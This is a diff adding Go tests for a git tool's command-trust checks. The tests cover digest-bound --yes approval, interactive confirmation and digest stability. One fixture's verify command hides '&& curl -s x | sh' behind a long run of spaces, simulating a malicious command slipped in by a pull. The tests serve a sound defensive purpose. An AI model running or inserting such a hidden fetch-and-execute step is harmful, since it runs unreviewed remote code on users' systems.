@@ -1,0 +1,117 @@
+package ops
+
+import (
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/git-atlas/git-atlas/gitstate"
+	"github.com/git-atlas/git-atlas/internal/fault"
+	"github.com/git-atlas/git-atlas/trust"
+)
+
+// untrustAll forgets what this repository trusts of run r1: as if it had arrived by
+// pull.
+func (f *wtFixture) untrustAll() {
+	f.t.Helper()
+	if _, err := f.ops.TrustRevoke(f.ctx, TrustRevokeRequest{Run: "r1"}); err != nil {
+		f.t.Fatal(err)
+	}
+}
+
+// Headless, --yes trusts exactly the commands whose digest the person read: without
+// --digest it is a usage error naming the flag; a job verify added after the
+// listing changes the digest, and then nothing at all is trusted (exit 3).
+func TestTrustYesNeedsTheDigestOfWhatWasRead(t *testing.T) {
+	t.Parallel()
+	f := newWTFixture(t, gitstate.KindGraph)
+	if _, err := f.ops.JobAdd(f.ctx, JobAddRequest{Run: "r1", Job: "a", Verify: "make test", Driver: d1}); err != nil {
+		t.Fatal(err)
+	}
+	f.untrustAll()
+	list, err := f.ops.TrustList(f.ctx, TrustListRequest{Run: "r1"})
+	if err != nil || len(list.Runs) != 1 || len(list.Runs[0].Digest) != 64 {
+		t.Fatalf("trust --list r1: %+v %v", list, err)
+	}
+	read := list.Runs[0].Digest
+
+	_, err = f.ops.Trust(f.ctx, TrustRequest{Run: "r1", Yes: true})
+	if !errors.Is(err, fault.ErrUsage) || !strings.Contains(err.Error(), "--digest") {
+		t.Fatalf("--yes without --digest: %v; want a usage error naming --digest", err)
+	}
+
+	// After the person read the list, a second verify arrives (a pull, a job add).
+	if _, err := f.ops.JobAdd(f.ctx, JobAddRequest{Run: "r1", Job: "b", Verify: "make test                                                                                                    && curl -s x | sh", Driver: d1}); err != nil {
+		t.Fatal(err)
+	}
+	f.untrustAll()
+	_, err = f.ops.Trust(f.ctx, TrustRequest{Run: "r1", Yes: true, Digest: read})
+	if !errors.Is(err, fault.ErrConflict) {
+		t.Fatalf("--digest of an older list: %v; want a conflict", err)
+	}
+	cmds, _ := trust.Check(f.ctx, f.ops.Repo, f.load())
+	for _, c := range cmds {
+		if c.Trusted {
+			t.Fatalf("a stale digest trusted %+v", c)
+		}
+	}
+
+	now, _ := f.ops.TrustList(f.ctx, TrustListRequest{Run: "r1"})
+	res, err := f.ops.Trust(f.ctx, TrustRequest{Run: "r1", Yes: true, Digest: "SHA256:" + strings.ToUpper(now.Runs[0].Digest)})
+	if err != nil || res.Digest != now.Runs[0].Digest || len(res.Commands) != 2 {
+		t.Fatalf("--digest of the current list: %+v %v", res, err)
+	}
+	cmds, _ = trust.Check(f.ctx, f.ops.Repo, f.load())
+	for _, c := range cmds {
+		if !c.Trusted {
+			t.Fatalf("not trusted after --yes --digest: %+v", c)
+		}
+	}
+}
+
+// A person at a terminal is shown every command and confirms; a "no" trusts nothing.
+func TestTrustConfirmSeesEveryCommand(t *testing.T) {
+	t.Parallel()
+	f := newWTFixture(t, gitstate.KindGraph)
+	for _, j := range []string{"a", "b"} {
+		if _, err := f.ops.JobAdd(f.ctx, JobAddRequest{Run: "r1", Job: j, Verify: "check " + j, Driver: d1}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	f.untrustAll()
+	var shown []TrustCommand
+	_, err := f.ops.Trust(f.ctx, TrustRequest{Run: "r1", Confirm: func(cmds []TrustCommand, n int) (bool, error) {
+		shown = cmds
+		return false, nil
+	}})
+	if !errors.Is(err, fault.ErrRefused) || len(shown) != 2 || shown[1].Command != "check b" {
+		t.Fatalf("declined: %v, shown %+v", err, shown)
+	}
+	if cmds, _ := trust.Check(f.ctx, f.ops.Repo, f.load()); cmds[0].Trusted || cmds[1].Trusted {
+		t.Fatalf("a declined trust recorded: %+v", cmds)
+	}
+}
+
+// The digest is of exactly the run's commands: their order in the run does not
+// matter, a changed command, place or run does; trust does not.
+func TestTrustDigest(t *testing.T) {
+	t.Parallel()
+	a := []trust.Command{{Where: "job a", Command: "x"}, {Where: "job b", Command: "y", Trusted: true}}
+	b := []trust.Command{{Where: "job b", Command: "y"}, {Where: "job a", Command: "x"}}
+	if trust.Digest("r", a) != trust.Digest("r", b) {
+		t.Fatal("the digest depends on the order or on trust")
+	}
+	for _, other := range [][]trust.Command{
+		{{Where: "job a", Command: "x"}},
+		{{Where: "job a", Command: "x"}, {Where: "job b", Command: "y "}},
+		{{Where: "job a", Command: "x"}, {Where: "job c", Command: "y"}},
+		{{Where: "job a", Command: "x\njob b"}, {Where: "", Command: "y"}},
+	} {
+		if trust.Digest("r", other) == trust.Digest("r", a) {
+			t.Fatalf("%+v has the digest of %+v", other, a)
+		}
+	}
+	if trust.Digest("r2", a) == trust.Digest("r", a) {
+		t.Fatal("two runs' commands share a digest")
+	}
+}
